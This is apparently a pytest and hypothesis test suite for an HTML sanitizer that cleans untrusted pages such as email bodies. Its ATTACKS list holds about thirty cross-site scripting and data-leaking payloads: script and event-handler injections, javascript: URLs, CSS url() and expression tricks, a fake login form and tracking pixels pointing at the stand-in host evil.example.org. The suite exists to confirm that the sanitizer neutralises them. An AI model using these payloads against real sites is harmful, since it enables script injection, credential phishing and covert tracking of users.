"""Pages of strangers, cleaned: what acts, loads, covers or asks for something is gone."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from channels.cleaning import (
    ATTRIBUTES,
    DEEPEST,
    LONGEST,
    TAGS,
    clean,
    is_showable,
    text_of,
)

KNOWN = TAGS | {"br"}
ADDRESSES = re.compile(r"(https?|mailto|tel):|data:image/(png|jpeg|gif|webp);base64,")
LOADS = re.compile(r"url|expression|import|position|javascript|\\\\", re.IGNORECASE)


class Elements(HTMLParser):
    """What a cleaned page is made of; `troubles` is what acts, or loads anything."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.troubles: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Complain of elements and attributes that are not known to be harmless."""
        known = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set())
        known |= {"target", "rel"} if tag == "a" else set()
        if tag not in KNOWN:
            self.troubles.append(tag)
        for name, value in attrs:
            is_address = name in ("href", "src") and not ADDRESSES.match(value or "")
            is_loading = name == "style" and LOADS.search(value or "")
            if name not in known or is_address or is_loading:
                self.troubles.append(f"{tag} {name}={value}")

    def handle_comment(self, data: str) -> None:
        """Comments hide pieces for single programs."""
        self.troubles.append(data)

    def handle_decl(self, decl: str) -> None:
        """So does what looks like a document's type."""
        self.troubles.append(decl)


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example.org/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<form action='https://evil.example.org'><input name=password><button>Log in</button></form>",
    "<iframe src='https://evil.example.org'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<base href='https://evil.example.org/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example.org'>",
    "<link rel=stylesheet href='https://evil.example.org/x.css'>",
    "<style>@import 'https://evil.example.org/x.css'; body{display:none}</style>",
    "<p style='background:url(https://evil.example.org/t)'>x</p>",
    "<p style='background-color:url(https://evil.example.org/t)'>x</p>",
    "<p style='b\\61ckground:u\\72l(https://evil.example.org/t)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x</div>",
    "<table background='https://evil.example.org/t'><tr><td>x</td></tr></table>",
    "<img srcset='https://evil.example.org/t 1x'>",
    "<video src='https://evil.example.org/t' autoplay></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<textarea></textarea><xmp><script>alert(1)</script></xmp>",
    "<template><script>alert(1)</script></template>",
    '<p><img src="https://evil.example.org/pixel.gif" width=1 height=1></p>',
]


def cleaned(html: str, *, show_remote: bool = False) -> str:
    """A page as it is shown."""
    shown = clean(html, images={}, show_remote=show_remote)
    assert shown
    return shown.html


@pytest.mark.parametrize("html", ATTACKS)
def test_nothing_acts_and_nothing_loads(html: str) -> None:
    result = cleaned(f"<p>before</p>{html}<p>after</p>")
    assert Elements(result).troubles == []
    assert "evil.example.org" not in result
    assert "position" not in result


@given(st.lists(st.sampled_from([*ATTACKS, "<p>", "</p>", "<b", "'", '"', ">", "<!--", "x"])))
def test_nothing_acts_however_it_is_put_together(pieces: list[str]) -> None:
    assert Elements(cleaned("".join(pieces))).troubles == []


def test_what_people_format_stays() -> None:
    html = (
        '<div style="color: red; font-weight: bold">Hi</div><ul><li>one</li></ul>'
        '<table border="1"><tr><td colspan="2">a</td></tr></table><blockquote>old</blockquote>'
    )
    result = cleaned(html)
    for piece in ("color:red", "font-weight:bold", "<li>one</li>", 'colspan="2"', "<blockquote>"):
        assert piece in result.replace(": ", ":")


def test_links_open_elsewhere_and_tell_nothing() -> None:
    result = cleaned('<a href="https://example.org/" target="_top" onclick="x()">x</a>')
    assert 'href="https://example.org/"' in result
    assert 'target="_blank"' in result
    assert 'rel="noopener noreferrer nofollow"' in result


def test_images_of_other_servers_are_counted_and_shown_when_asked_for() -> None:
    html = '<img src="https://a.example.org/1.gif"><img src="//b.example.org/2.gif"><p>x</p>'
    shown = clean(html, images={}, show_remote=False)
    assert shown
    assert shown.blocked >= 1
    assert "example.org" not in shown.html
    assert "https://a.example.org/1.gif" in cleaned(html, show_remote=True)


def test_images_that_came_along_are_shown() -> None:
    images = {"pic@x": "data:image/png;base64,AAAA"}
    html = '<img src="cid:pic@x"><img src="cid:pic%40x"><img src="cid:none">'
    shown = clean(html, images=images, show_remote=False)
    assert shown
    assert shown.html.count("<img") == 3
    assert shown.html.count("src=") == 2
    assert "data:image/png;base64,AAAA" in shown.html


@pytest.mark.parametrize(
    "html",
    [
        "x" * (LONGEST + 1),
        "<div>" * (DEEPEST + 1),
        "<b></b>" * 20_000,
        "<div></p></div>" * 20_000,
        # Each of the paragraphs gets all of the colours.
        "<p>" + "".join(f"<font color=#{each:06x}>" for each in range(100)) + "<p>x" * 5000,
    ],
)
def test_what_would_keep_the_cleaner_busy_is_not_cleaned(html: str) -> None:
    assert not is_showable(html)
    assert clean(html, images={}, show_remote=False) is None
    assert isinstance(text_of(html), str)


def test_old_pages_that_close_nothing_are_shown() -> None:
    assert is_showable("<p>x<br>" * 3000 + "<ul>" + "<li>x" * 3000)


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>Hi</p><p>there</p>", "Hi\n\nthere"),
        ("Hi<br>there", "Hi\nthere"),
        ("<div>Hi</div><div>there</div>", "Hi\nthere"),
        ("a &lt;b&gt; &amp;c&nbsp;d", "a <b> &c d"),
        ("<p>new</p><blockquote>old<br>older</blockquote>", "new\n\n> old\n> older"),
        ("<style>p{}</style><script>x</script><p>Hi</p>", "Hi"),
        ("<ul><li>one</li><li>two</li></ul>", "one\ntwo"),
        ("", ""),
    ],
)
def test_text_of_a_page(html: str, text: str) -> None:
    assert re.sub(r"\n>\s*$", "", text_of(html)) == text
